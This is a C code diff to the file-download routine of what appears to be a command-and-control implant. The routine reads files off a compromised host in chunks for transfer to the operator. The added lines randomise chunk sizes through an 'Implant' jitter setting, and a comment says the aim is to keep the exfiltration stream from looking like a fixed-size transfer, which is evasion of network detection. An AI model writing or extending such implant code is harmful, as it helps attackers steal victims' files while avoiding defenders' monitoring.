@@ -132,14 +132,25 @@ VOID DownloadPush()
         PRINTF( "Download: %p\n", Download )
         if ( Download->State == DOWNLOAD_STATE_RUNNING )
         {
-            DWORD Read = 0;
+            DWORD Read   = 0;
+            DWORD Length = Instance->DownloadChunk.Length;
 
             PRINTF( "Download (%x) is in state DOWNLOAD_STATE_RUNNING\n", Download->FileID )
 
+            /* randomize the chunk size so the transfer doesn't look like a fixed size stream */
+            if ( Instance->Config.Implant.DownloadChunkJitter ) {
+                Length -= RandomNumber32() % ( ( Length / 100 ) * Instance->Config.Implant.DownloadChunkJitter + 1 );
+            }
+
+            /* don't read past the end of the requested range */
+            if ( Download->Size < Length ) {
+                Length = ( DWORD ) Download->Size;
+            }
+
             /* Reset memory. */
             MemSet( Instance->DownloadChunk.Buffer, 0, Instance->DownloadChunk.Length );
 
-            if ( ! Instance->Win32.ReadFile( Download->hFile, Instance->DownloadChunk.Buffer, Instance->DownloadChunk.Length, &Read, NULL ) )
+            if ( ! Instance->Win32.ReadFile( Download->hFile, Instance->DownloadChunk.Buffer, Length, &Read, NULL ) )
                 PRINTF( "ReadFile Failed: Error[%d]\n", NtGetLastError() );
 
             Download->Size     -= Read;